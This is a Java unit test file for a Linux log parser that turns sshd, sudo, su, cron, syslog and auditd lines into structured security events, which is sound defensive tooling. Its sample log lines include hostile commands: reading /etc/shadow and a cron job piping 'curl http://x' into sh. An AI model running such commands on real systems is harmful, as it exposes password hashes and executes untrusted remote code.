package io.acso.edge.ingest.linux;

import static org.assertj.core.api.Assertions.assertThat;

import io.acso.domain.event.Entity;
import io.acso.domain.event.Event;
import io.acso.domain.kernel.Json;
import io.acso.edge.ingest.Intakes;
import io.acso.testsupport.OcsfSchema;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

class LinuxFormatTest {

    @Test
    void a_failed_ssh_login_is_taken_apart() {
        Event event = Intakes.event(
                "Feb  1 10:00:00 web1 sshd[812]: Failed password for invalid user eve from 203.0.113.9 port 50022 ssh2");
        JsonNode raw = Json.tree(event.raw());
        assertThat(raw.path("hostname").asString()).isEqualTo("web1");
        assertThat(raw.path("program").asString()).isEqualTo("sshd");
        assertThat(raw.path("pid").asString()).isEqualTo("812");
        assertThat(raw.path("user").asString()).isEqualTo("eve");
        assertThat(raw.path("src_ip").asString()).isEqualTo("203.0.113.9");
        assertThat(raw.path("src_port").asString()).isEqualTo("50022");
        assertThat(raw.path("method").asString()).isEqualTo("password");
        assertThat(raw.path("outcome").asString()).isEqualTo("failure");
        assertThat(event.time()).isEqualTo(Instant.parse("2026-02-01T10:00:00Z"));
        assertThat(event.entities())
                .extracting(Entity::key)
                .containsExactly("host|host:web1|web1", "principal|host:web1|eve", "address|internet|203.0.113.9");
        JsonNode document = OcsfSchema.assertValid(event.ocsf());
        assertThat(document.path("type_uid").asLong()).isEqualTo(300201);
        assertThat(document.path("status_id").asInt()).isEqualTo(2);
    }

    @Test
    void sudo_switches_the_user() {
        Event event = Intakes.event(
                "2026-02-01T10:00:00.123456+01:00 web1 sudo:   bo : TTY=pts/0 ; PWD=/home/bo ; USER=root ; COMMAND=/bin/cat /etc/shadow");
        JsonNode raw = Json.tree(event.raw());
        assertThat(raw.path("command").asString()).isEqualTo("/bin/cat /etc/shadow");
        assertThat(raw.path("target_user").asString()).isEqualTo("root");
        assertThat(event.time()).isEqualTo(Instant.parse("2026-02-01T09:00:00.123456Z"));
        assertThat(OcsfSchema.assertValid(event.ocsf()).path("type_uid").asLong())
                .isEqualTo(300207);
    }

    @Test
    void well_known_messages_are_told_apart() {
        expect("sshd[1]: Accepted publickey for bo from 198.51.100.7 port 22 ssh2: RSA x", "sshd", "success", 3002);
        expect("sshd[1]: Invalid user x from 198.51.100.7 port 22", "sshd", "failure", 3002);
        expect(
                "sudo:  bo : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
                "sudo",
                "failure",
                3002);
        expect("su[5]: (to root) bo on pts/1", "auth", "success", 3002);
        expect("su: FAILED SU (to root) bo on pts/1", "auth", "failure", 3002);
        expect("useradd[9]: new user: name=eve, UID=1001, GID=1001, home=/home/eve", "auth", "success", 3001);
        expect("CRON[77]: (root) CMD (curl http://x | sh)", "cron", "success", 0);
        expect(
                "CRON[77]: pam_unix(cron:session): session opened for user bo(uid=0) by (uid=0)",
                "cron",
                "success",
                3002);
        expect("kernel: usb 1-1: new device", "syslog", "", 0);
    }

    @Test
    void rfc_5424_and_audit_lines_are_known() {
        Event modern = Intakes.event(
                "<34>1 2026-02-01T10:00:00.003Z web1 su - ID47 [x@1 a=\"]\"] \uFEFFFAILED SU (to root) bo on pts/1");
        assertThat(Json.tree(modern.raw()).path("facility").asInt()).isEqualTo(4);
        assertThat(Json.tree(modern.raw()).path("user").asString()).isEqualTo("bo");
        Event audit = Intakes.event(
                "node=web1 type=EXECVE msg=audit(1769940000.250:24287): argc=2 a0=\"cat\" a1=2F6574632F736861646F77");
        assertThat(audit.logSource().service()).isEqualTo("auditd");
        assertThat(Json.tree(audit.raw()).path("a1").asString()).isEqualTo("/etc/shadow");
        assertThat(Json.tree(audit.raw()).path("type").asString()).isEqualTo("EXECVE");
        assertThat(Json.tree(audit.raw()).path("command_line").asString()).isEqualTo("cat /etc/shadow");
        assertThat(audit.time()).isEqualTo(Instant.ofEpochMilli(1769940000250L));
    }

    @Test
    void a_year_is_the_latest_that_is_not_in_the_future() {
        Instant arrival = Instant.parse("2026-03-01T12:00:00Z");
        assertThat(SyslogTime.withoutYear("Dec 31 23:59:59", arrival)).isEqualTo(Instant.parse("2025-12-31T23:59:59Z"));
        assertThat(SyslogTime.withoutYear("Mar  2 01:00:00", arrival)).isEqualTo(Instant.parse("2026-03-02T01:00:00Z"));
        assertThat(SyslogTime.withoutYear("Feb 29 01:00:00", arrival)).isEqualTo(Instant.parse("2024-02-29T01:00:00Z"));
        assertThat(SyslogTime.withoutYear("Feb 31 01:00:00", arrival)).isNull();
        assertThat(SyslogTime.withoutYear("Jan  1 00:00:00", Instant.parse("2025-12-31T20:00:00Z")))
                .isEqualTo(Instant.parse("2026-01-01T00:00:00Z"));
    }

    @Test
    void a_message_does_not_choose_the_fields_of_its_line() {
        Event event =
                Intakes.event("type=USER_CMD msg=audit(1769940000.250:1): hostname=evil program=x message=y cmd=6C73");
        JsonNode raw = Json.tree(event.raw());
        assertThat(raw.path("hostname").asString()).isEqualTo("unknown");
        assertThat(raw.path("program").asString()).isEqualTo("auditd");
        assertThat(raw.path("cmd").asString()).isEqualTo("ls");
    }

    private static void expect(String line, String service, String outcome, int ocsfClass) {
        Event event = Intakes.event("Feb  1 10:00:00 web1 " + line);
        assertThat(event.logSource().service()).as(line).isEqualTo(service);
        assertThat(Json.tree(event.raw()).path("outcome").asString("")).as(line).isEqualTo(outcome);
        assertThat(Json.tree(event.ocsf()).path("class_uid").asInt()).as(line).isEqualTo(ocsfClass);
    }
}
